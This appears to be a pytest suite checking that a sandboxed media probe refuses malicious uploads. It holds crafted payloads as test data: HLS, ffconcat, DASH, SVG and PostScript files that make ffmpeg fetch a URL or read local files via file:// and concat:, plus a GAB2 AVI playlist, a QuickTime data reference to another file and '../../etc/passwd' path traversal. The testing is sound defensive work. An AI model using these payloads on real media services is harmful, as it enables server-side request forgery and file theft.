"""Known attacks on media readers: no other file or URL is opened, memory stays bounded, nothing leaks."""

import json
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import app.assets.sandbox_probe
from app.assets.limits import CPU_SECONDS, RefusedError
from app.assets.sandbox_probe import ProbeResult, probe_file
from app.assets.sniff import MP4, Media
from app.confined import MEMORY_BYTES
from tests.app.assets.media_files import Trap, make, make_clip, make_picture, tone

FTYP = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"


def examined(path: Path, **options: object) -> ProbeResult:
    folder = path.with_name(path.name + "-out")
    folder.mkdir(exist_ok=True)
    return probe_file(path, folder, want=None, **options)  # type: ignore[arg-type]


# Contents that make ffmpeg read something else. {trap} is an internal server, {secret} another file in the folder.
SCRIPTS = {
    "hls playlist that fetches": "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{trap}/a.ts\n#EXT-X-ENDLIST\n",
    "hls playlist that reads a file": "#EXTM3U\n#EXTINF:1,\nfile://{secret}\n#EXT-X-ENDLIST\n",
    "hls playlist that joins both": "#EXTM3U\n#EXTINF:1,\nconcat:{trap}/?|file://{secret}\n#EXT-X-ENDLIST\n",
    "ffconcat script, neighbour": "ffconcat version 1.0\nfile secret.mp4\n",
    "ffconcat script, absolute": "ffconcat version 1.0\nfile {secret}\n",
    "dash manifest": (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet '
        'mimeType="video/mp4"><Representation id="1"><BaseURL>{trap}/a.mp4</BaseURL></Representation></AdaptationSet>'
        "</Period></MPD>"
    ),
    "svg that includes": (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="200" height="200">'
        '<image x:href="file://{secret}" width="200" height="200"/><image x:href="{trap}/a.png"/></svg>'
    ),
    "session description": "v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n",
    "ram and xspf pointers": "{trap}/a.rm\n",
    "postscript": "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({secret}) run showpage\n",
    "text as a film": "\x1b[31m" + "secret " * 400,
}


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A film that must never be read: plain red, in the folder of the upload."""
    return make(tmp_path / "secret.mp4", "-f", "lavfi", "-i", "color=red:s=320x180:d=1:r=10", "-pix_fmt", "yuv420p")


@pytest.mark.parametrize("attack", SCRIPTS)
def test_a_script_in_place_of_a_film_is_refused_unread(tmp_path: Path, secret: Path, attack: str) -> None:
    with Trap() as trap:
        for name in ("upload.mp4", "upload.m3u8", "upload.png"):
            (tmp_path / name).write_text(SCRIPTS[attack].format(trap=trap.url, secret=secret))
            with pytest.raises(RefusedError, match="it is none of PNG, JPEG"):
                examined(tmp_path / name)
        assert trap.hits == []


READERS = ["mov", *(pytest.param(each, marks=pytest.mark.deep) for each in ("matroska", "wav", "flac", "ogg", "mp3"))]


@pytest.mark.parametrize("attack", SCRIPTS)
@pytest.mark.parametrize("reader", READERS)
def test_behind_the_first_bytes_the_named_reader_stands_alone(
    tmp_path: Path, secret: Path, attack: str, reader: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Were the first bytes ever misjudged, the forced demuxer would still not follow a script."""
    monkeypatch.setattr(app.assets.sandbox_probe, "sniff", lambda head: Media(reader, ("clip", "sound"), "x/y"))
    with Trap() as trap:
        (tmp_path / "upload.mp4").write_text(SCRIPTS[attack].format(trap=trap.url, secret=secret))
        with pytest.raises(RefusedError, match=r"damaged|points at|neither|no sound"):
            examined(tmp_path / "upload.mp4")
        assert trap.hits == []


def test_a_playlist_behind_a_film_header_is_damaged(tmp_path: Path, secret: Path) -> None:
    with Trap() as trap:
        (tmp_path / "upload.mp4").write_bytes(FTYP + f"#EXTM3U\n#EXTINF:1,\n{trap.url}/a.ts\n".encode())
        with pytest.raises(RefusedError):
            examined(tmp_path / "upload.mp4")
        assert trap.hits == []


def test_a_playlist_among_subtitles_is_not_followed(tmp_path: Path) -> None:
    """The GAB2 attack: an AVI whose subtitle stream is a playlist."""
    with Trap() as trap:
        playlist = f"#EXTM3U\n#EXTINF:1,\n{trap.url}/a.ts\n".encode()
        body = b"LIST\x04\x00\x00\x00movi01tx" + len(playlist).to_bytes(4, "little") + b"GAB2\x00" + playlist
        (tmp_path / "upload.avi").write_bytes(b"RIFF" + (len(body) + 4).to_bytes(4, "little") + b"AVI " + body)
        with pytest.raises(RefusedError):
            examined(tmp_path / "upload.avi")
        assert trap.hits == []


def test_a_film_that_names_another_file_as_its_data_gets_none_of_it(tmp_path: Path, secret: Path) -> None:
    """A QuickTime data reference: the header is ours, the pictures are said to lie in the secret film."""
    data = make_clip(tmp_path / "plain.mp4").read_bytes()
    place = data.index(b"dref")
    old = data[place - 4 : place + 24]
    target = f"file://{secret}".encode() + b"\x00"
    entry = (12 + len(target)).to_bytes(4, "big") + b"url \x00\x00\x00\x00" + target
    new = (16 + len(entry)).to_bytes(4, "big") + b"dref\x00\x00\x00\x00\x00\x00\x00\x01" + entry
    grown = bytearray(data.replace(old, new))
    for box in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
        at = grown.index(box) - 4
        grown[at : at + 4] = (int.from_bytes(grown[at : at + 4], "big") + len(new) - len(old)).to_bytes(4, "big")
    (tmp_path / "upload.mov").write_bytes(grown)
    try:
        result = examined(tmp_path / "upload.mov")
    except RefusedError:
        return
    make(tmp_path / "kept.png", "-i", str(result.path), "-frames:v", "1")
    comparison = subprocess.run(["cmp", tmp_path / "kept.png", secret], capture_output=True, check=False)
    assert comparison.returncode != 0
    assert result.frames == 24  # The secret has ten.


def test_a_file_name_with_a_pattern_reads_no_other_files(tmp_path: Path) -> None:
    for number in range(1, 4):
        make_picture(tmp_path / f"frame{number}.png", (64 + number, 64))
    pattern = make_picture(tmp_path / "frame%d.png", (100, 80))
    result = examined(pattern)
    assert (result.width, result.height, result.frames) == (100, 80, 1)


def test_pictures_beyond_the_limit_are_refused_before_they_are_decoded(tmp_path: Path) -> None:
    source = "color=black:s=8192x4320:d=0.1:r=20"
    make(tmp_path / "upload.mp4", "-f", "lavfi", "-i", source, "-preset", "ultrafast", "-pix_fmt", "yuv420p")
    with pytest.raises(RefusedError):
        examined(tmp_path / "upload.mp4")
    # The container may lie about the size; the decoder is bounded as well.
    data = (tmp_path / "upload.mp4").read_bytes()
    lie = data.replace((8192).to_bytes(2, "big") + (4320).to_bytes(2, "big"), b"\x01\x40\x00\xb4")
    assert lie != data
    (tmp_path / "lie.mp4").write_bytes(lie)
    with pytest.raises(RefusedError):
        examined(tmp_path / "lie.mp4")


def test_a_clip_that_is_too_long_is_refused_however_few_pictures_it_has(tmp_path: Path) -> None:
    slow = make(
        tmp_path / "slow.mp4",
        *("-f", "lavfi", "-i", "testsrc2=s=320x180:r=1:d=5", "-vf", "setpts=PTS*7200", "-fps_mode", "vfr"),
        *("-pix_fmt", "yuv420p"),
    )
    with pytest.raises(RefusedError, match="longer than 60 seconds"):
        examined(slow)
    long = make_clip(tmp_path / "long.mp4", "-preset", "ultrafast", seconds=70, size="64x64", rate="5")
    with pytest.raises(RefusedError, match="longer than 60 seconds"):
        examined(long)


def test_a_sound_that_is_too_long_is_refused(tmp_path: Path) -> None:
    silence = ["-f", "lavfi", "-i", "anullsrc=r=8000:cl=mono", "-t", "3600", "-ar", "8000"]
    with pytest.raises(RefusedError, match="longer than 600 seconds"):
        examined(make(tmp_path / "upload.flac", *silence))


def test_too_many_streams_are_refused(tmp_path: Path) -> None:
    many = [word for _ in range(40) for word in ("-map", "0")]
    with pytest.raises(RefusedError, match="40 streams"):
        examined(make(tmp_path / "upload.mkv", *tone(0.1), *many, "-c:a", "libopus"))


def test_a_codec_that_is_not_listed_is_refused(tmp_path: Path) -> None:
    with pytest.raises(RefusedError, match="coded as"):
        examined(make_clip(tmp_path / "upload.mkv", "-c:v", "ffv1"))


def test_a_file_that_is_too_large_is_not_even_opened(tmp_path: Path) -> None:
    with (tmp_path / "upload.mp4").open("wb") as file:
        file.write(FTYP)
        file.truncate(201 * 2**20)
    with pytest.raises(RefusedError, match="may have 209,715,200"):
        examined(tmp_path / "upload.mp4")


@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_damaged_files_are_refused_or_read_and_nothing_else(tmp_path: Path, data: st.DataObject) -> None:
    _damage(tmp_path, data)


@pytest.mark.deep
@pytest.mark.timeout(900)
@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_many_damaged_files_are_refused_or_read_and_nothing_else(tmp_path: Path, data: st.DataObject) -> None:
    _damage(tmp_path, data)


def _damage(tmp_path: Path, data: st.DataObject) -> None:
    whole = {
        "clip.mp4": lambda path: make_clip(path, "-preset", "ultrafast", seconds=0.5, size="64x64"),
        "clip.webm": lambda path: make_clip(path, "-c:v", "libvpx", seconds=0.5, size="64x64"),
        "sound.mp3": lambda path: make(path, *tone(0.5)),
        "sound.ogg": lambda path: make(path, *tone(0.5), "-c:a", "libvorbis"),
        "picture.png": lambda path: make_picture(path, (64, 64)),
        "picture.webp": lambda path: make_picture(path, (64, 64)),
    }
    name = data.draw(st.sampled_from(sorted(whole)))
    original = tmp_path / name
    if not original.exists():
        whole[name](original)
    damaged = bytearray(original.read_bytes())
    rng = np.random.default_rng(data.draw(st.integers(0, 2**32)))
    for _ in range(data.draw(st.integers(1, 40))):
        damaged[rng.integers(0, len(damaged))] = rng.integers(0, 256)
    if data.draw(st.booleans()):
        del damaged[int(rng.integers(1, len(damaged))) :]
    (tmp_path / "damaged").write_bytes(damaged)
    try:
        result = examined(tmp_path / "damaged")
    except RefusedError:
        return
    assert result.path.stat().st_size > 0


CONFINED = f"from app.confined import confine\nconfine(cpu_seconds={CPU_SECONDS}, output_bytes=2**20)\n"


def confined(code: str) -> subprocess.CompletedProcess[str]:
    root = Path(app.__file__).parent.parent
    return subprocess.run(
        [sys.executable, "-c", CONFINED + code], cwd=root, capture_output=True, text=True, check=False, timeout=60
    )


def test_the_reader_cannot_take_more_memory_than_it_is_given() -> None:
    done = confined(f"try:\n  bytearray({MEMORY_BYTES})\nexcept MemoryError:\n  print('refused')")
    assert done.stdout == "refused\n"
    done = confined("import resource; print(resource.getrlimit(resource.RLIMIT_CPU)[1])")
    assert done.stdout == f"{CPU_SECONDS}\n"


def test_the_reader_has_no_network_where_the_kernel_gives_it_its_own() -> None:
    with Trap() as trap:
        done = confined(
            "import os, urllib.request\n"
            "print(os.readlink('/proc/self/ns/net'))\n"
            "try:\n"
            f"  urllib.request.urlopen('{trap.url}', timeout=5)\n"
            "except OSError:\n"
            "  print('no network')"
        )
        space, *output = done.stdout.split("\n")
        if space == str(Path("/proc/self/ns/net").readlink()):
            pytest.skip("this kernel gives no network of its own")
        assert output[0] == "no network"
        assert trap.hits == []


def test_the_reader_knows_none_of_our_settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CINEMETER_S3_SECRET_KEY", "very secret")
    seen: list[dict[str, str]] = []
    run = subprocess.run

    def remember(command: list[str], **options: object) -> object:
        seen.append(dict(options["env"]))  # type: ignore[call-overload]
        return run(command, **options)  # type: ignore[call-overload]

    monkeypatch.setattr(subprocess, "run", remember)
    examined(make_picture(tmp_path / "picture.png"))
    assert set(seen[0]) == {"PYTHONPATH", "MALLOC_ARENA_MAX", "LANG"}


def test_a_reader_that_hangs_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(app.assets.sandbox_probe, "WALL_SECONDS", 0.01)
    with pytest.raises(RefusedError, match="takes too long"):
        examined(make_picture(tmp_path / "picture.png"))


@pytest.mark.parametrize(
    "output",
    [
        b"",
        b"{",
        b"[]",
        b'{"file": "../../etc/passwd", "kind": "clip"}',
        b'{"file": "clip.mp4", "kind": "clip", "width": 99999}',
        b'{"file": "clip.mp4", "kind": "clip", "fps": "1/0/0"}',
        b'{"file": "clip.mp4", "kind": "clip", "more": 1}',
        json.dumps({"refused": "x" * 1000}).encode(),
        b'{"file": "clip.mp4", "kind": "clip"}',
    ],
)
def test_the_answer_of_a_compromised_reader_is_checked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, output: bytes
) -> None:
    """Its answer is bounded, its file must lie where it belongs and be a file."""
    (tmp_path / "upload.mp4").write_bytes(FTYP)
    (tmp_path / "upload.mp4-out").mkdir()
    (tmp_path / "upload.mp4-out" / "clip.mp4").symlink_to("/etc/passwd")
    answer = subprocess.CompletedProcess([], 0, stdout=output)
    monkeypatch.setattr(subprocess, "run", lambda *_, **__: answer)
    assert MP4.reader == "mov"
    with pytest.raises(RefusedError, match="cannot be read"):
        examined(tmp_path / "upload.mp4")
